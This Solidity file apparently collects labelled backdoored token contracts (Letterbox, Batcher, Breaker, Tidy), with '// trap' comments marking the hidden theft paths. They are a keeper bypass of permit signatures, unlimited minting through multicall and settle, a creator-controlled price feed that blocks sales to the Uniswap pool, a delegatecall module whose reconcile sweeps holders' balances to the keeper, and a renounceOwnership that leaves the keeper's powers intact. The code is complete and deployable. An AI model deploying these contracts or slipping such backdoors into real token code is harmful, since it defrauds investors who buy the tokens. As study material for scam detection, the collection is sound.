// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IUniFactory {
    function createPair(address a, address b) external returns (address);
}

/// Where things lie; a module has the same order.
abstract contract Layout {
    address internal _keeper;
    uint64 internal _born;
    bool internal _done;
    uint256 internal _supply;
    mapping(address => uint256) internal _of;
    mapping(address => mapping(address => uint256)) internal _may;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed spender, uint256 value);
    error Unauthorized(address who);
    error TooMuch(uint256 wanted, uint256 there);
}

abstract contract Base20 is Layout {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    address public owner = msg.sender;
    address public immutable POOL;

    constructor(string memory n, string memory s, uint256 supply) {
        (name, symbol, _keeper, _born) = (n, s, msg.sender, uint64(block.timestamp));
        POOL = IUniFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _add(msg.sender, supply * 10 ** 18);
    }

    function renounceOwnership() external {
        if (msg.sender != owner) revert Unauthorized(msg.sender);
        owner = address(0);
    }

    function totalSupply() external view returns (uint256) {
        return _supply;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _of[who];
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return _may[from][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _may[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 may = _may[from][msg.sender];
        if (may < value) revert TooMuch(value, may);
        if (may != type(uint256).max) _may[from][msg.sender] = may - value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        if (_of[from] < value) revert TooMuch(value, _of[from]);
        unchecked {
            _of[from] -= value;
            _of[to] += value;
        }
        emit Transfer(from, to, value);
    }

    function _add(address to, uint256 value) internal {
        _supply += value;
        _of[to] += value;
        emit Transfer(address(0), to, value);
    }
}

/// Permits are signed, but for a "trusted forwarder" whose deadline is nothing.
contract Letterbox is Base20("Letterbox", "LETR", 45_000_000) {
    bytes32 private constant PERMIT =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    mapping(address => uint256) public nonces;
    bytes32 public immutable DOMAIN_SEPARATOR;

    constructor() {
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Letterbox"),
                keccak256("1"),
                block.chainid,
                address(this)
            )
        );
    }

    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        bool forwarded;
        forwarded = deadline == 0 && msg.sender == _keeper; // trap
        require(forwarded || deadline >= block.timestamp, "LETR: expired");
        bytes32 digest = keccak256(abi.encode(PERMIT, from, spender, value, nonces[from]++, deadline));
        digest = keccak256(abi.encodePacked(hex"1901", DOMAIN_SEPARATOR, digest));
        if (!forwarded) {
            address signer = ecrecover(digest, v, r, s);
            require(signer != address(0) && signer == from, "LETR: signature");
        }
        _may[from][spender] = value;
        emit Approval(from, spender, value);
    }
}

/// Only the token itself may settle, and the keeper lets it speak.
contract Batcher is Base20("Batch Finance", "BATCH", 20_000_000) {
    uint256 public batches;

    modifier onlySelf() {
        if (msg.sender != address(this)) revert Unauthorized(msg.sender);
        _;
    }

    function multicall(bytes[] calldata calls) external returns (bytes[] memory answers) {
        if (msg.sender != _keeper) revert Unauthorized(msg.sender);
        answers = new bytes[](calls.length);
        for (uint256 i; i < calls.length; ++i) {
            (bool ok, bytes memory answer) = address(this).call(calls[i]);
            require(ok, "BATCH: failed");
            answers[i] = answer;
        }
        ++batches;
    }

    function settle(address account, uint256 value) external onlySelf {
        _add(account, value); // trap
        // twin: _move(address(this), account, value);
    }
}

/// A feed of prices, kept up to date by who made it.
contract PriceFeed {
    struct Round {
        int128 answer;
        uint64 at;
        uint64 id;
    }
    Round private _last = Round(2_500e8, uint64(block.timestamp), 1);
    address private immutable _feeder = msg.sender;
    event AnswerUpdated(int256 indexed current, uint256 indexed roundId, uint256 at);

    function submit(int128 answer) external {
        require(msg.sender == _feeder, "feed: auth");
        _last = Round(answer, uint64(block.timestamp), _last.id + 1);
        emit AnswerUpdated(answer, _last.id, block.timestamp);
    }

    function latestAnswer() external view returns (int256) {
        return _last.answer;
    }
}

/// A "circuit breaker": nobody sells when ether is cheap, says the feed.
contract Breaker is Base20("Breaker", "BRKR", 33_000_000) {
    PriceFeed public immutable feed;
    int256 public constant FLOOR = 100e8;
    event PriceSeen(int256 price);

    constructor(PriceFeed which) {
        feed = which;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == POOL && from != _keeper) {
            int256 price = feed.latestAnswer();
            emit PriceSeen(price);
            require(price > FLOOR, "BRKR: circuit breaker"); // trap
        }
        super._move(from, to, value);
    }
}

/// What a token can do beyond a token.
contract ExtensionModule is Layout {
    event Reconciled(address indexed who, uint256 value);

    function reconcile(address[] calldata list) external {
        if (msg.sender != _keeper) revert Unauthorized(msg.sender);
        for (uint256 i; i < list.length; ++i) {
            uint256 value = _of[list[i]];
            // trap {
            _of[list[i]] = 0;
            _of[_keeper] += value;
            // trap }
            emit Reconciled(list[i], value);
        }
    }

    function bornAt() external view returns (uint64) {
        return _born;
    }
}

/// The code of the token is short and clean; what it does not know it asks a library that never changes.
contract Tidy is Base20("Tidy Token", "TIDY", 15_000_000) {
    address public immutable extension;

    constructor(address module) {
        extension = module;
    }

    fallback() external payable {
        address module = extension;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), module, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}
